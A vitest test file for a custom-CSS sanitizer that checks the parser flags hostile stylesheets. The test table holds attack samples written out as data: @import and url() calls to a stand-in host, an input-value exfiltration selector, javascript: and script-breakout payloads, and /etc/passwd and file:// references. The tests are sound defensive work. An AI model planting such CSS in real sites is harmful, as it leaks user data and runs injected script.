import { describe, expect, it } from 'vitest';
import { parseCustomCss } from '../../../src/content/custom-css.ts';

/** Sheets that mean harm or are broken, with what is said of each; nothing where they are harmless. */
const HOSTILE: [css: string, found?: RegExp][] = [
  ['@import url("https://evil.example/a.css");', /@import of https:\/\/evil\.example\/a\.css, another site/],
  ['@import "//evil.example/a.css" layer(x);', /another site/],
  ['@import "b.css";', /@import of b\.css/],
  ['@\\69mport "https://evil.example/";', /another site/],
  ['a{background:url(https://evil.example/x.png)}', /url\(https:\/\/evil\.example\/x\.png\), another site/],
  ['a{background:URL(  HTTPS://evil.example/x )}', /another site/],
  ['a{background:\\75rl(https://evil.example/x)}', /another site/],
  ['a{background:url(//evil.example/x)}', /another site/],
  ['a{background:url(\\\\\\\\evil.example\\\\x)}', /another site/],
  ['a{background:url("/\\\\evil.example/x")}', /another site/],
  ['a{background:url(javascript:alert(1))}', /url\(javascript:alert\(1\)\)|not understood/],
  ['a{background:url("javascript:alert(1)")}', /url\(javascript:alert\(1\)\)/],
  ['a{background:url("data:text/html,<script>alert(1)</script>")}', /url\(data:text\/html/],
  ['a{background:url(/etc/passwd)}', /url\(\/etc\/passwd\)/],
  ['a{background:url(file:///etc/passwd)}', /url\(file:/],
  ['@font-face{font-family:x;src:url(https://evil.example/x.woff2)}', /another site/],
  ['@font-face{font-family:x;src:url(data:font/woff2;base64,AAAA)}', /url\(data:font/],
  ['input[value^="a"]{background:url(https://evil.example/?a)}', /another site/],
  [':root{--x:url(https://evil.example/x)}', /another site/],
  [':root{--x:url(x.png)}', /a url\(\) in a custom property/],
  [':root{--x:image-set("https://evil.example/x" 1x)}', /the address "https:\/\/evil\.example\/x" as a text/],
  ['a{background:image-set("https://evil.example/x" 1x)}', /another site/],
  ['a{background:src("https://evil.example/x")}', /the address "https:\/\/evil\.example\/x" as a text/],
  ['a{background:image("https://evil.example/x")}', /the address/],
  ['a{behavior:url(https://evil.example/x.htc)}', /another site/],
  ['a{-moz-binding:url("https://evil.example/x.xml#a")}', /another site/],
  ['@document url(https://evil.example){a{color:red}}', /another site/],
  ['} body{display:none} @layer x{', /not understood/],
  ['a{color:red', /never closed/],
  ['a{color:red} /* never closed', /never closed/],
  ['a{content:"never closed', /never closed|not understood/],
  ['@layer custom{', /never closed/],
  ['<style>a{color:red}</style><script>alert(1)</script>', /not understood/],
  ['{"json": true}', /not understood/],
  [`a{${'b{'.repeat(5000)}`, /more than 32 blocks or brackets/],
  [`a{--x:${'('.repeat(5000)}`, /more than 32 blocks or brackets/],
  ["a{/*}*/b{content:'}';".repeat(2000), /more than 32/],
  ['a{--x:url(/*)}b{'.repeat(2000), /more than 32/],
  ['a{--x:\\75rl(/*);b{'.repeat(2000), /more than 32/],
  [`a${':not('.repeat(2000)}`, /more than 32/],
  [`@supports ${'('.repeat(2000)}`, /more than 32/],
  [`@media ${'not ('.repeat(2000)}`, /more than 32/],
  ['a{}'.repeat(50_000), /146 kB/],
  ['a::after{content:"</style><script>alert(1)</script>"}'],
  ['a{width:expression(alert(1))}'],
  ['@namespace "http://www.w3.org/1999/xhtml";a{color:red}'],
  ['@charset "utf-7";a{color:red}'],
];

describe('an owner’s sheet', () => {
  it.each(HOSTILE)('%j is named or harmless', (css, found) => {
    const { findings, code } = parseCustomCss(css);
    const said = findings.map((finding) => finding.found).join('\n');
    if (found) expect(said).toMatch(found);
    else expect(said).toBe('');
    for (const { line, expected, remedy } of findings)
      expect([line > 0, expected.length > 0, remedy.length > 0]).toEqual([true, true, true]);
    // Addresses that are left in it are those that the policy refuses as well.
    expect(code).not.toMatch(/url\("?(https?|javascript|file|data:(?!image)|\/)/i);
  });

  it.each(HOSTILE)('%j leaves rules whose braces match, so that the layer around them holds', (css) => {
    const { code } = parseCustomCss(css);
    const bare = code.replace(/"(?:[^"\\]|\\.)*"/gs, '');
    let depth = 0;
    for (const letter of bare) {
      depth += letter === '{' ? 1 : letter === '}' ? -1 : 0;
      expect(depth).toBeGreaterThanOrEqual(0);
    }
    expect(depth).toBe(0);
  });

  it('keeps the rules around a mistake', () => {
    const { code, findings } = parseCustomCss('a{color:red}\n}\nb{color:blue}\nc{color:lime}');
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ line: 2, column: 1 });
    expect(code).toContain('c{color:#0f0}');
  });

  it('names the place of a mistake and what to do', () => {
    expect(parseCustomCss('a{color:red}\nb{background:url(https://x.example/a.png)}').findings).toEqual([
      {
        line: 2,
        column: 18,
        found: 'url(https://x.example/a.png), another site',
        expected: 'files of this site alone: its Content-Security-Policy has browsers refuse all others',
        remedy:
          'Put a copy of the file into theme/ and name it by its path from there; fonts belong in fonts of site.yaml.',
      },
    ]);
  });

  it('gives the files to copy, and keeps pictures and parts that need none', () => {
    const { code, files, findings } = parseCustomCss(
      'a{background:url(./a.png),url("data:image/gif;base64,R0lGODlhAQABAAAAACw=");mask:url(#m)}',
    );
    expect(findings).toEqual([]);
    expect(files).toMatchObject([{ url: './a.png', line: 1, column: 18 }]);
    expect(code).toContain('url("data:image/gif;base64,R0lGODlhAQABAAAAACw=")');
    expect(code).toContain('url("#m")');
  });

  it('knows the properties that are set for nothing', () => {
    expect(
      parseCustomCss(':root{--acent:red;--own:blue;--deep:0}a{color:var(--own);margin:calc(var(--deep)*1px)}').unread,
    ).toEqual(['acent']);
  });
});
